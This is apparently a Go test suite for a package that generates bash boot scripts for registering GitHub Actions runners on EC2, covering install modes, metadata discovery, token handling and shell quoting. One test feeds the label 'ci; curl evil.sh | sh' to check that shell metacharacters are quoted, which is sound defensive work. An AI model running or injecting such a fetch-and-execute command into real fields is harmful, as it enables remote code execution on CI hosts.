package bootscript

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/stretchr/testify/suite"
)

type BootScriptSuite struct {
	suite.Suite
	ctx Context
}

func (s *BootScriptSuite) SetupTest() {
	s.ctx = Context{
		Token: "AABBCCDDEEFF0011223344",
		Label: "ec2-runner-1a2b3c4d",
		URL:   "https://github.com/my-org/my-repo",
	}
}

func TestBootScriptSuite(t *testing.T) {
	suite.Run(t, new(BootScriptSuite))
}

func (s *BootScriptSuite) joined(lines []string) string {
	return strings.Join(lines, "\n")
}

// ---------------------------------------------------------------------------
// Install modes
// ---------------------------------------------------------------------------

func (s *BootScriptSuite) TestDownloadMode() {
	lines := Build(s.ctx)
	require.NotEmpty(s.T(), lines)

	assert.Equal(s.T(), "#!/bin/bash", lines[0])
	assert.Equal(s.T(), "mkdir -p actions-runner && cd actions-runner", lines[1])
	assert.Contains(s.T(), lines[2], `aarch64|arm64) ARCH="arm64"`)
	assert.Contains(s.T(), lines[2], `amd64|x86_64) ARCH="x64"`)
	assert.Equal(s.T(),
		"curl -O -L https://github.com/actions/runner/releases/download/v2.321.0/actions-runner-linux-${RUNNER_ARCH}-2.321.0.tar.gz",
		lines[3])
	assert.Equal(s.T(), "tar xzf ./actions-runner-linux-${RUNNER_ARCH}-2.321.0.tar.gz", lines[4])
}

func (s *BootScriptSuite) TestDownloadMode_CustomVersion() {
	s.ctx.RunnerVersion = "2.330.0"
	script := s.joined(Build(s.ctx))

	assert.Contains(s.T(), script, "/download/v2.330.0/actions-runner-linux-${RUNNER_ARCH}-2.330.0.tar.gz")
	assert.NotContains(s.T(), script, DefaultRunnerVersion)
}

func (s *BootScriptSuite) TestPreBakedMode() {
	s.ctx.HomeDir = "/home/runner/actions-runner"
	lines := Build(s.ctx)

	assert.Equal(s.T(), "cd /home/runner/actions-runner", lines[1])
	script := s.joined(lines)
	assert.NotContains(s.T(), script, "mkdir -p")
	assert.NotContains(s.T(), script, "curl -O -L")
	assert.NotContains(s.T(), script, "tar xzf")
}

func (s *BootScriptSuite) TestPreBakedMode_IgnoresVersion() {
	s.ctx.HomeDir = "/opt/runner"
	s.ctx.RunnerVersion = "2.330.0"
	assert.NotContains(s.T(), s.joined(Build(s.ctx)), "2.330.0")
}

func (s *BootScriptSuite) TestPreBakedMode_QuotesHomeDir() {
	s.ctx.HomeDir = "/opt/my runner"
	lines := Build(s.ctx)
	assert.Equal(s.T(), "cd '/opt/my runner'", lines[1])
}

// ---------------------------------------------------------------------------
// Common environment and registration
// ---------------------------------------------------------------------------

func (s *BootScriptSuite) TestAlwaysExportsRunAsRoot() {
	for _, home := range []string{"", "/opt/runner"} {
		s.ctx.HomeDir = home
		lines := Build(s.ctx)
		assert.Contains(s.T(), lines, "export RUNNER_ALLOW_RUNASROOT=1")
		assert.Contains(s.T(), lines, "export DOTNET_SYSTEM_GLOBALIZATION_INVARIANT=1")
	}
}

func (s *BootScriptSuite) TestLiteralRegistration() {
	lines := Build(s.ctx)

	assert.Contains(s.T(), lines, "export INSTANCE_ID=$(cat /var/lib/cloud/data/instance-id)")
	config := lines[len(lines)-2]
	assert.Equal(s.T(),
		`./config.sh --unattended --url https://github.com/my-org/my-repo --token AABBCCDDEEFF0011223344 --name "$INSTANCE_ID" --labels ec2-runner-1a2b3c4d`,
		config)
	assert.NotContains(s.T(), s.joined(lines), "169.254.169.254")
}

func (s *BootScriptSuite) TestMetadataDiscovery() {
	s.ctx.DiscoverFromMetadata = true
	lines := Build(s.ctx)
	script := s.joined(lines)

	assert.Contains(s.T(), script, "http://169.254.169.254/latest/api/token")
	assert.Contains(s.T(), lines, "export INSTANCE_ID=$(imds instance-id)")
	assert.Contains(s.T(), lines, "export RUNNER_URL=$(imds tags/instance/GitHubRunnerURL)")
	assert.Contains(s.T(), lines, "export RUNNER_LABEL=$(imds tags/instance/GitHubRunnerLabel)")

	config := lines[len(lines)-2]
	assert.Contains(s.T(), config, `--url "$RUNNER_URL"`)
	assert.Contains(s.T(), config, `--labels "$RUNNER_LABEL"`)

	// URL and label are never carried as literals in this variant.
	assert.NotContains(s.T(), script, s.ctx.URL)
	assert.NotContains(s.T(), script, s.ctx.Label)
	assert.NotContains(s.T(), script, "/var/lib/cloud/data/instance-id")
}

func (s *BootScriptSuite) TestTokenAppearsExactlyOnce() {
	for _, discover := range []bool{false, true} {
		for _, home := range []string{"", "/opt/runner"} {
			s.ctx.DiscoverFromMetadata = discover
			s.ctx.HomeDir = home
			assert.Equal(s.T(), 1, strings.Count(s.joined(Build(s.ctx)), s.ctx.Token))
		}
	}
}

func (s *BootScriptSuite) TestMetacharactersAreQuoted() {
	s.ctx.Label = "ci; curl evil.sh | sh"
	config := Build(s.ctx)
	line := config[len(config)-2]

	assert.True(s.T(), strings.HasSuffix(line, `--labels 'ci; curl evil.sh | sh'`), line)
}

// ---------------------------------------------------------------------------
// Structural guarantees
// ---------------------------------------------------------------------------

func (s *BootScriptSuite) TestEndsWithSingleStartLine() {
	for _, discover := range []bool{false, true} {
		for _, home := range []string{"", "/opt/runner"} {
			s.ctx.DiscoverFromMetadata = discover
			s.ctx.HomeDir = home
			lines := Build(s.ctx)

			require.NotEmpty(s.T(), lines)
			assert.Equal(s.T(), "./run.sh", lines[len(lines)-1])

			var starts int
			for _, l := range lines {
				if strings.Contains(l, "./run.sh") {
					starts++
				}
			}
			assert.Equal(s.T(), 1, starts)
		}
	}
}

func (s *BootScriptSuite) TestDeterministic() {
	s.ctx.DiscoverFromMetadata = true
	first := Build(s.ctx)
	second := Build(s.ctx)
	assert.Equal(s.T(), first, second)
	assert.Equal(s.T(), s.joined(first), s.joined(second))
}
